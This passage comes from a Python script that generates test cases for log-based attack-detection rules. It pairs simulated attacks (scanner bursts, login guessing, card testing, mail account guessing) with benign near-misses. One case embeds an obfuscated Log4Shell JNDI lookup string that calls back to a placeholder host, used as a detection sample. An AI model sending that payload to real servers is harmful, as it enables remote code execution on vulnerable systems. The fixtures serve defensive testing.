        ("GET", "/img/logo-old.png", 404),
        ("GET", "/wp-content/uploads/a.jpg", 404),
    ]
    return access_scan(r, TECH, home_ip(201), pages, ua=CHROME, fires=False)


@case(PROBE, "scanner-burst")
def probe_attack(r: Recorder) -> Expected:
    backups: Hits = [("GET", f"/old/{n}.bak", 404) for n in range(12)]
    return access_scan(r, PROBE, "203.0.113.53", backups, ua=CHROME, gap=0.5)


@case(PROBE, "crawler-meeting-dead-links")
def probe_benign(r: Recorder) -> Expected:
    access_customers(r, 0, 300)
    for n in range(40):
        r.access(30 + n * 2, GOOGLEBOT_IP, "GET", f"/catalog/item-{n}", 404, ua=GOOGLEBOT)
    return []


@case(RURI, "six-letter-flood")
def ruri_attack(r: Recorder) -> Expected:
    rng = r.rng
    word = ["".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(6)) for _ in range(40)]
    flood: Hits = [("GET", f"/{w}", 404) for w in word]
    return access_scan(r, RURI, "203.0.113.54", flood, ua=FIREFOX, gap=0.2)


@case(RURI, "thirty-in-ten-seconds")
def ruri_near(r: Recorder) -> Expected:
    near: Hits = [("GET", "/ABCDEF", 404)] * 30
    return access_scan(r, RURI, "203.0.113.54", near, ua=FIREFOX, gap=0.3, fires=False)


@case(CACHE, "numeric-query-flood")
def cache_attack(r: Recorder) -> Expected:
    flood: Hits = [("GET", f"/?{10_000_000 + n * 7919}", 200) for n in range(40)]
    return access_scan(r, CACHE, "203.0.113.55", flood, ua=FIREFOX, gap=0.2)


@case(CACHE, "thirty-cache-busters")
def cache_near(r: Recorder) -> Expected:
    near: Hits = [("GET", f"/?{10_000_000 + n}", 200) for n in range(30)]
    return access_scan(r, CACHE, "203.0.113.55", near, ua=FIREFOX, gap=0.3, fires=False)


@case(UAS, "rotating-agents")
def uas_attack(r: Recorder) -> Expected:
    access_customers(r, 0, 300)
    ip = "203.0.113.56"
    for n in range(12):
        r.access(60 + n // 3, ip, "GET", "/", 200, ua=f"Mozilla/5.0 (Agent {n})")
    return [source_alert(UAS, ip, 12)]


@case(UAS, "office-nat-browsers")
def uas_benign(r: Recorder) -> Expected:
    access_customers(r, 0, 600)
    for n in range(15):  # fifteen colleagues' browsers, one every twenty seconds
        r.access(60 + n * 20, OFFICE_NAT, "GET", "/", 200, ua=f"{BENIGN[n % 5]} office-{n}")
    return []


@case(WPU, "author-walk")
def wpu_attack(r: Recorder) -> Expected:
    walk: Hits = [("GET", f"/?author={n}", 404) for n in range(1, 9)]
    return access_scan(r, WPU, "203.0.113.57", walk, ua=CHROME)


@case(WPU, "one-author-page-reloaded")
def wpu_benign(r: Recorder) -> Expected:
    reloads: Hits = [("GET", "/?author=1", 200)] * 10
    return access_scan(r, WPU, home_ip(202), reloads, ua=CHROME, gap=3, fires=False)


@case(APISCP, "login-form-guessing")
def apiscp_attack(r: Recorder) -> Expected:
    guesses: Hits = [("POST", "/apps/login", 200)] * 7
    return access_scan(r, APISCP, "203.0.113.58", guesses, ua=CHROME, gap=2)


@case(APISCP, "five-logins-a-minute")
def apiscp_near(r: Recorder) -> Expected:
    logins: Hits = [("POST", "/apps/login", 200)] * 5
    return access_scan(r, APISCP, home_ip(203), logins, ua=CHROME, gap=10, fires=False)


NLIM = "nginx-limit-exceeded"
LIMITED = 'limiting requests, excess: 5.428 by zone "api"'


@case(NLIM, "hammering-through-the-limit")
def nlim_attack(r: Recorder) -> Expected:
    access_customers(r, 0, 300)
    for n in range(8):
        r.nginx_error(60 + n * 4, "203.0.113.59", LIMITED, f"/api/v1/products/{n}")
    return [source_alert(NLIM, "203.0.113.59", 8)]


@case(NLIM, "five-refusals-and-app-429s")
def nlim_benign(r: Recorder) -> Expected:
    access_customers(r, 0, 300)
    for n in range(5):  # a client slowed down five times in a minute, then it backs off
        r.nginx_error(60 + n * 10, home_ip(204), LIMITED)
    for n in range(10):  # the application's own 429s are not nginx's limit
        r.request(60 + n * 2, home_ip(205), "GET", "/api/v1/search", 429, ua=APP)
    r.nginx_error(200, home_ip(206), 'open() "/srv/www/favicon.ico" failed (2: No such file)')
    return []


BURST, CARDS = "login-failure-burst", "card-testing-source"


@case(BURST, "basic-auth-guessing")
def burst_attack(r: Recorder) -> Expected:
    access_customers(r, 0, 300)
    for n in range(8):  # a script against HTTP basic authentication: one account, 8 s
        r.nginx_error(60 + n, "203.0.113.60", f'user "admin{n}" was not found in "/etc/htpasswd"')
    return [source_alert(BURST, "203.0.113.60", 8)]


@case(BURST, "admin-panel-script")
def burst_magento(r: Recorder) -> Expected:
    access_customers(r, 0, 300)
    for n in range(7):
        r.magento(90 + n * 1.5, "203.0.113.61", "ADMIN_LOGIN_FAILED")
    return [source_alert(BURST, "203.0.113.61", 7)]


@case(BURST, "five-quick-typos-and-an-office")
def burst_benign(r: Recorder) -> Expected:
    access_customers(r, 0, 600)
    office_morning(r, people=120, typos=40, start=30, span=500)
    for n in range(5):  # someone hammering Enter on a wrong password, then getting it right
        r.login(100 + n * 2, home_ip(207), account(207), ok=False)
    r.login(112, home_ip(207), account(207), ok=True)
    return []


@case(CARDS, "stolen-cards-one-after-another")
def cards_attack(r: Recorder) -> Expected:
    access_customers(r, 0, 300)
    for n in range(6):
        r.magento(60 + n * 5, "203.0.113.62", "PAYMENT_FAILED")
    return [source_alert(CARDS, "203.0.113.62", 6)]


@case(CARDS, "customer-retrying-a-declined-card")
def cards_benign(r: Recorder) -> Expected:
    access_customers(r, 0, 300)
    for n in range(3):  # three tries in half a minute, then another card a minute later
        r.magento(60 + n * 10, home_ip(208), "PAYMENT_FAILED")
    r.magento(150, home_ip(208), "PAYMENT_FAILED")
    return []


INVV = "invalid-http-version"


@case(INVV, "dos-tool-versions")
def invv_attack(r: Recorder) -> Expected:
    access_customers(r, 0, 300)
    r.access(60, "203.0.113.63", "GET", "/", 400, ua=CHROME, version="1.2")
    r.access(70, "203.0.113.64", "GET", "/", 400, ua=FIREFOX, version="2.1")
    return [
        source_alert(INVV, "203.0.113.63", 1),
        source_alert(INVV, "203.0.113.64", 1),
    ]


@case(INVV, "every-real-version")
def invv_benign(r: Recorder) -> Expected:
    access_customers(r, 0, 300)
    for n, version in enumerate(("0.9", "1.0", "1.1", "2.0", "3.0")):
        r.access(60 + n, home_ip(209 + n), "GET", "/", 200, ua=CHROME, version=version)
    r.access(80, home_ip(215), "GET", "/", 400, ua=CURL, version="1.1")
    return []


@case(EXP, "log4shell-in-the-referer")
def exp_referer(r: Recorder) -> Expected:
    access_customers(r, 0, 300)
    payload = "${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.99/callback}"
    r.access(60, "203.0.113.65", "GET", "/", 200, ua=CHROME, referer=payload)
    r.access(61, home_ip(216), "GET", "/", 200, ua=CHROME, referer="https://shop.example.com/")
    return [source_alert(EXP, "203.0.113.65", 1)]


MAIL = "mail-account-guessing"


@case(MAIL, "address-list-against-imap")
def mail_attack(r: Recorder) -> Expected:
    access_customers(r, 0, 300)
    tried = [account(n) for n in range(300, 305)]
    for n, who in enumerate(tried):
        r.mail_login_fail(60 + n * 3, "203.0.113.66", who)
    return [source_alert(MAIL, "203.0.113.66", 5, accounts=tried)]


@case(MAIL, "three-colleagues-and-web-logins")
def mail_benign(r: Recorder) -> Expected:
    access_customers(r, 0, 300)
    for n in range(3):  # three people behind the office NAT with a stale phone password
        r.mail_login_fail(60 + n * 5, OFFICE_NAT, account(310 + n))
    for n in range(4):  # web logins are not mail logins
        r.login(70 + n * 4, OFFICE_NAT, account(320 + n), ok=False)
        r.login(72 + n * 4, OFFICE_NAT, account(320 + n), ok=True)
    return []


# -- writing -----------------------------------------------------------------------------------


def build(rule: str, name: str) -> tuple[bytes, bytes]:
    """One case's ``events.ndjson`` and ``expected.json`` contents."""
    recorder = Recorder(f"{rule}/{name}")
    expected = CASES[(rule, name)](recorder)
    events = sorted(recorder.events, key=lambda e: e.timestamp)
    ndjson = b"".join(encode_event(event) + b"\n" for event in events)
    return ndjson, (json.dumps(expected, indent=1) + "\n").encode()


def write_all(out: Path = HERE) -> list[Path]:
    """Write every case under ``out``; the case directories written."""
    written = []
    for rule, name in CASES:
        events, expected = build(rule, name)
        target = out / rule / name
        target.mkdir(parents=True, exist_ok=True)
        (target / "events.ndjson").write_bytes(events)
        (target / "expected.json").write_bytes(expected)
        written.append(target)
    return written


if __name__ == "__main__":
    cases = write_all(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
    print(f"wrote {len(cases)} cases")
